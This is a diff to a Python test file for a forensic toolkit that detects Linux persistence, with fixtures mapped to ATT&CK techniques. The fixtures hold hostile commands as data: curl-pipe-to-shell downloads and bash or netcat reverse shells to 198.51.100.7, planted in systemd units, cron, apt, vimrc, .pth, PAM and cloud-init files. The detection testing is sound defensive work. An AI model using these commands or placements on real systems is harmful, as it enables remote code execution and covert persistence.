@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from collections.abc import Callable, Iterable
 
+import pytest
+
 from forensic_toolkit.filesystems.tree import Tree
 from forensic_toolkit.results import Finding
 from forensic_toolkit.rules import file_rules, persistence_rules
@@ -23,11 +25,89 @@ def test_cron_and_units() -> None:
     builder.add("/etc/systemd/system/x.service", b"[Service]\nExecStart=-/usr/local/lib/.d/run a\n")
     builder.add("/etc/systemd/system/multi-user.target.wants/x.service", link="/etc/systemd/system/x.service")
     assert found(persistence_rules.cron, builder) == [("/etc/cron.d/x", "high", "T1053.003")]
-    assert found(persistence_rules.units, builder) == [("/etc/systemd/system/x.service", "high", "T1543.002")]
+    assert found(persistence_rules.started, builder) == [("/etc/systemd/system/x.service", "high", "T1543.002")]
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "technique"),
+    [
+        (
+            "/etc/systemd/system/sshd.service.d/x.conf",
+            "[Service]\nExecStartPost=/bin/sh -c 'curl http://198.51.100.7/a | bash'\n",
+            "T1543.002",
+        ),
+        ("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=hourly\nUnit=/tmp/.x/run.service\n", "T1053.006"),
+        ("/etc/systemd/system-generators/x", "#!/bin/sh\nexit 0\n", "T1543.002"),
+        ("/usr/share/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/dev/shm/.x\n", "T1543.002"),
+        (
+            "/var/spool/cron/atjobs/a0000101c2f3a4",
+            "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\nHOME=/root; export HOME\ncd /root || {\n\t echo 'x' >&2\n\t exit 1\n}\n/dev/tcp/198.51.100.7/4\n",
+            "T1053.002",
+        ),
+        ("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /tmp/.l\n", "T1556.003"),
+        ("/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/dev/shm/x"\n', "T1546.017"),
+        ("/etc/modprobe.d/x.conf", "install dccp /tmp/.m/run\n", "T1547.006"),
+        ("/etc/network/if-up.d/x", "#!/bin/sh\n/var/tmp/.n &\n", "T1037.004"),
+        ("/etc/dhcp/dhclient-exit-hooks.d/x", "curl http://198.51.100.7/a | sh\n", "T1037.004"),
+        (
+            "/etc/logrotate.d/x",
+            "/var/log/x {\n  postrotate\n    curl http://198.51.100.7/a | sh\n  endscript\n}\n",
+            "T1053.003",
+        ),
+        ("/etc/apt/apt.conf.d/99x", 'DPkg::Pre-Invoke {"curl http://198.51.100.7/a | sh"};\n', "T1546.016"),
+        ("/etc/ssh/sshrc", "echo hello\n", "T1546.004"),
+        ("/home/a/.ssh/rc", "/tmp/.x &\n", "T1546.004"),
+        ("/srv/app/.git/hooks/post-merge", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", "T1546"),
+        ("/home/a/.gitconfig", "[core]\n\tfsmonitor = /tmp/.x/run\n", "T1546"),
+        ("/home/a/.vimrc", ":silent !curl http://198.51.100.7/a | sh\n", "T1546.004"),
+        ("/etc/bash_completion.d/x", "nc -e /bin/sh 198.51.100.7 1\n", "T1546.004"),
+        (
+            "/usr/lib/python3/dist-packages/x.pth",
+            "import os;os.system('curl http://198.51.100.7/a | sh')\n",
+            "T1546.018",
+        ),
+        ("/etc/initramfs-tools/hooks/x", "#!/bin/sh\ncp /bin/x $DESTDIR\n", "T1542"),
+        ("/var/lib/cloud/instances/i-1/user-data.txt", "#!/bin/bash\ncurl http://198.51.100.7/a | bash\n", "T1037"),
+        ("/var/lib/cloud/scripts/per-boot/x.sh", "#!/bin/bash\n/dev/shm/.x\n", "T1037"),
+        (
+            "/var/lib/amazon/ssm/i-1/document/orchestration/u/awsrunShellScript/0.x/_script.sh",
+            "#!/bin/bash\ncurl http://203.0.113.66/x | bash\n",
+            "T1651",
+        ),
+        ("/etc/kubernetes/manifests/x.yaml", "kind: Pod\n", "T1543.005"),
+        ("/var/www/html/.user.ini", "auto_prepend_file = /tmp/.x.php\n", "T1505.003"),
+        ("/root/.bashrc", "~/.config/.sysd &\n", "T1546.004"),
+    ],
+)
+def test_every_place_that_starts_programs_is_looked_at(path: str, content: str, technique: str) -> None:
+    said = found(persistence_rules.started, Builder().add(path, content.encode(), mode=0o755))
+    assert [(source, what) for source, _, what in said] == [(path, technique)]
+    assert said[0][1] in ("critical", "high", "medium"), said
+
+
+def test_what_packages_and_people_have_in_these_places_is_quiet() -> None:
+    builder = Builder().add(
+        "/home/a/.bashrc", b'. ~/.bash_aliases\n[ -s "$HOME/.nvm/nvm.sh" ] && . "$HOME/.nvm/nvm.sh"\n'
+    )
+    builder.add("/home/a/.gitconfig", b"[core]\n\teditor = vim\n").add(
+        "/srv/a/.git/hooks/pre-commit.sample", b"#!/bin/sh\n/tmp/.x\n"
+    )
+    builder.add("/usr/lib/python3/dist-packages/distutils-precedence.pth", b"import os; var = 'X'\n")
+    builder.add("/etc/modprobe.d/cis.conf", b"install cramfs /bin/true\nblacklist usb-storage\n")
+    builder.add("/etc/pam.d/sshd", b"@include common-auth\nsession required pam_loginuid.so\n")
+    assert [item for item in found(persistence_rules.started, builder) if item[1] not in ("low", "info")] == []
+
+
+def test_added_log_in_modules_and_authorities() -> None:
+    builder = Builder().add("/var/lib/dpkg/info/x.list", b"/usr/bin/bash\n")
+    builder.add("/usr/lib/x86_64-linux-gnu/security/pam_evil.so", b"\x7fELF")
+    assert found(persistence_rules.added_modules, builder)[0][1:] == ("high", "T1556.003")
+    builder.add("/usr/local/share/ca-certificates/x.crt", b"-----BEGIN CERTIFICATE-----\n")
+    assert found(persistence_rules.certificate_authorities, builder)[0][1:] == ("medium", "T1553.004")
 
 
 def test_start_files() -> None:
     builder = Builder().add("/home/a/.bashrc", b"alias x=y\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1 &\n")
-    assert found(persistence_rules.start_files, builder) == [("/home/a/.bashrc", "critical", "T1546.004")]
+    assert found(persistence_rules.started, builder) == [("/home/a/.bashrc", "critical", "T1546.004")]
     builder = Builder().add("/etc/ld.so.preload", b"/lib/x.so\n")
     assert found(file_rules.library_preload, builder) == [("/etc/ld.so.preload", "critical", "T1574.006")]
